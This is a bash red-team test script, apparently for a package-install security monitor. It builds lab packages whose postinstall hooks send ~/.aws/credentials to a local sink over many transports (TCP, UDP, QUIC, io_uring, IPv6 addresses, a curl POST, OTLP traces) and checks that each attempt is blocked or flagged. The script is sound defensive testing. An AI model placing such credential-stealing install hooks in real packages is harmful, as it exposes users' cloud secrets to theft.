#!/bin/bash
# R16: what was stolen leaves by curl, plain http, a bare socket, TCP Fast Open, UDP 443, datagrams,
# io_uring, IPv6.
#
# The rule that kills at the read of the cloud keys is tuned down to an alert, so that only the way
# out is judged.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R16 'transports' 127.0.0.1:443
mkdir "$LAB/rules"
jq -n '{tune: "cloud-credentials", action: "alert", reason: "what comes after the read is tested",
	expires: "2099-12-31"}' >"$LAB/rules/tune.json"
LAB_WORMSIGN_ARGS="${LAB_WORMSIGN_ARGS:-} --rules $LAB/rules"
ways=(tcp fastopen fastopen-connect nonblock write sendfile splice udp udp-connected udp-redirect
	sendmsg sendmmsg uring uring-udp)
[ -z "${QUICK:-}" ] || ways=(tcp fastopen udp sendmmsg uring)
for way in "${ways[@]}"; do
	rt_package "send-$way-x" 1.0.0 - postinstall \
		"./bin/net $way $RT_SINK ~/.aws/credentials; true" net
done
rt_package send-mapped-x 1.0.0 - postinstall \
	"./bin/net tcp [::ffff:127.0.0.1]:${RT_SINK##*:} ~/.aws/credentials; true" net
rt_package send-v6-x 1.0.0 - postinstall \
	"./bin/net tcp [::1]:${RT_SINK##*:} ~/.aws/credentials; true" net
rt_package send-quic-x 1.0.0 - postinstall \
	'./bin/net udp 127.0.0.1:443 ~/.aws/credentials; true' net
ways+=(mapped v6 quic)
if command -v curl >/dev/null; then
	rt_package send-curl-x 1.0.0 - postinstall \
		"curl -s -m 5 -d @\"\$HOME/.aws/credentials\" $RT_SINK/hook >/dev/null; true"
	ways+=(curl)
fi
spans="{ resourceSpans: [k.read('.aws/credentials')] }"
rt_package send-otlp-x 1.0.0 - postinstall \
	"node -e \"const k = require('./kit.js'); k.post('/v1/traces', $spans)\""
ways+=(otlp)

rt_control
rt_leaked .aws/credentials
worked=$(lab_sink web | jq '.connections + .datagrams')
rt_ok "ways that worked: $worked of ${#ways[@]}" [ "$worked" -ge "${#ways[@]}" ]

if rt_guarded; then
	rt_stopped
	for way in "${ways[@]}"; do
		case $way in
		uring*) rt_withheld "send-$way-x" no-io-uring 'egress|secret|theft' ;;
		*) rt_accused "send-$way-x" 'egress|secret|theft' ;;
		esac
	done
fi
rt_end
